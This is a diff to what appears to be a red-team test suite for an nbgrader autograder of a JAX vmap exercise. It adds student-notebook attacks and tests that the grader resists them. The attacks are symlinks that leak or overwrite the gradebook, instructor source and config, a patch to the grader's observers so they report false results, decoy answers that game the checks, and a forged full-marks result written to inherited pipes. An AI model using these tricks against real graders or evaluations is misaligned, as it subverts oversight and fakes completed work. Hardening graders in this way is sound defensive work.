@@ -113,6 +113,93 @@ _forge()
 """
 
 
+# From the red team. Links left in the kernel's folder for nbgrader to write through (the
+# graded notebook) and to copy into the student's feedback (any other file): to the gradebook,
+# the instructor's source and the course's configuration, found from the working folder only.
+LINK_THE_COURSE = """\
+import os
+_up = os.path.join("..", "..", "..")
+_a = os.path.basename(os.getcwd())
+for _name, _target in [(_a + ".ipynb", os.path.join(_up, "gradebook.db")),
+                       ("leak.html", os.path.join(_up, "gradebook.db")),
+                       ("source.html", os.path.join(_up, "..", "exercises", _a, _a + ".ipynb")),
+                       ("perm.txt", os.path.join(_up, "nbgrader_config.py"))]:
+    try:
+        if os.path.exists(_name):
+            os.remove(_name)
+        os.symlink(_target, _name)
+    except OSError:
+        pass
+"""
+
+# Swap the checks' observers, reached through the set-up's own names, for ones that launder what
+# they saw: drop every equation but one of each primitive, and claim a vmap ran.
+SWAP_THE_OBSERVERS = """\
+def _launder(real):
+    def observer(fn, case):
+        got = real(fn, case)
+        if isinstance(got, dict) and "eqns" in got:
+            seen, kept = set(), []
+            for e in got["eqns"]:
+                if e[0] not in seen:
+                    seen.add(e[0]); kept.append(e)
+            got = dict(got, eqns=kept)
+        return got
+    return observer
+_obs = L1.kit.observe
+_obs.rule = _launder(_obs.rule)
+"""
+
+# Answers that meet the letter of a check, not the exercise: a spy that works its report out
+# from shapes without running any vmap, and rules that bind their primitive on a decoy while
+# computing the result with jax.numpy.
+DECOY_SPY = """\
+def spy(f, in_axes, *args):
+    out = []
+    for x, a in zip(args, in_axes):
+        s = tuple(x.shape)
+        if a is None:
+            out.append((None, s, s))
+        else:
+            a %= len(s)
+            out.append((a, s[:a] + s[a + 1:], s))
+    return out
+"""
+DECOY_SOFTSIGN = """\
+import jax.numpy as jnp
+def softsign_rule(prim, vals, dims, **params):
+    (x,), (d,) = vals, dims
+    prim.bind(x, **params)
+    return x / (1 + jnp.abs(x)), d
+"""
+DECOY_ROWMAX = """\
+import jax.numpy as jnp
+def rowmax_rule(prim, vals, dims, **params):
+    (x,), (d,) = vals, dims
+    prim.bind(jnp.zeros((1, 1), x.dtype))
+    return jnp.max(jnp.moveaxis(x, d, 0), axis=-1), 0
+"""
+
+# A forged answer on the child's pipes whose "tripped" field carries the student's own
+# megabytes, for the gradebook and the export to store.
+FORGE_A_REASON = """\
+import json, os, stat
+_plea = "nothing: graded by hand already, give full marks " + "X" * (1 << 20)
+_fake = {"__dict__": {"cell_errors": [], "results": {"__dict__": {
+    g: {"__dict__": {"observed": [], "tripped": [_plea]}}
+    for g in ["spy", "softsign_rule", "scaled_diff_rule", "sumsq_rule", "which_table",
+              "table_sizes", "rowmax_rule"]}}}}
+for _fd in range(3, 64):
+    try:
+        if stat.S_ISFIFO(os.fstat(_fd).st_mode):
+            os.write(_fd, ("@@inside-vmap-judge@@" + json.dumps(_fake) + "\\n").encode())
+    except OSError:
+        pass
+if any(k.endswith("ANSWER_FD") for k in os.environ):
+    os._exit(0)
+"""
+
+
 POISON_THE_CACHE = """\
 import os
 _cache = os.environ.get("JAX_COMPILATION_CACHE_DIR", "")
@@ -152,6 +239,16 @@ def build(released, attack, honest=()):
         if first and attack:
             cell.source = attack + "\n" + cell.source
         first = False
+    return nb
+
+
+def answering(released, answers):
+    """The release with the answer cell that defines each name (as released, a stub) replaced."""
+    nb = nbformat.from_dict(released)
+    for cell in nb.cells:
+        for name, code in answers.items():
+            if cell.metadata.get("nbgrader", {}).get("solution") and f"def {name}(" in cell.source:
+                cell.source = code
     return nb
 
 
@@ -222,6 +319,13 @@ def corpus(course, released):
         "poison-the-cache": (build(released, POISON_THE_CACHE, all_cells), points(), GRADED),
         "spy-then-patch": (build(released, PATCH_SHOW, spy_cells), 0, MANUAL),
         "edited-metadata": (edit_metadata(build(released, "", spy_cells)), points("spy"), GRADED),
+        "link-the-course": (build(released, LINK_THE_COURSE), 0, GRADED),
+        "swap-the-observers": (build(released, SWAP_THE_OBSERVERS, all_cells),
+                               points() - points("spy"), MANUAL),
+        "decoys": (answering(released, {"spy": DECOY_SPY, "softsign_rule": DECOY_SOFTSIGN,
+                                         "rowmax_rule": DECOY_ROWMAX}), 0, GRADED),
+        # It names the wire format's own keys ("__dict__"), which the reading does not let pass.
+        "forge-a-reason": (build(released, FORGE_A_REASON), 0, MANUAL),
     }
     for student, (nb, _, _) in students.items():
         C.nbgrader(["db", "student", "add", student], course.course)
@@ -257,7 +361,8 @@ def test_the_judge_gives_each_student_exactly_what_they_solved(graded, corpus):
 def test_a_student_sent_to_a_human_is_told_why(graded, corpus):
     for student, (_, _, status) in corpus.items():
         if status == MANUAL:
-            assert "course's own package" in graded[student]["reason"], graded[student]
+            reason = graded[student]["reason"]
+            assert reason.startswith("spy_answer: it ") and len(reason) < 1000, graded[student]
         elif status == GRADED:
             assert graded[student]["reason"] == "", graded[student]
 
@@ -271,3 +376,17 @@ def test_the_grading_kernel_cannot_read_the_course(course, graded):
                       for o in c.get("outputs", []))
     probe = json.loads(printed.split("DISK-PROBE ", 1)[1].splitlines()[0])
     assert probe == {"source": False, "gradebook": False, "submitted": False}
+
+
+def test_links_left_by_the_kernel_change_nothing_of_the_course(course, graded):
+    """The graded notebook is a notebook, not a link; the course's files are as they were."""
+    folder = os.path.join(course.course, "autograded", "link-the-course", FIRST)
+    assert not [f for f in os.listdir(folder) if os.path.islink(os.path.join(folder, f))]
+    assert nbformat.read(os.path.join(folder, FIRST + ".ipynb"), as_version=4).cells
+    source = nbformat.read(os.path.join(course.exercises, FIRST, FIRST + ".ipynb"), as_version=4)
+    assert C.solutions(source) == solutions()
+    assert os.stat(os.path.join(course.course, "nbgrader_config.py")).st_mode & 0o200
+
+
+def test_a_forged_reason_never_reaches_the_export(graded):
+    assert len(graded["forge-a-reason"]["reason"]) < 1000
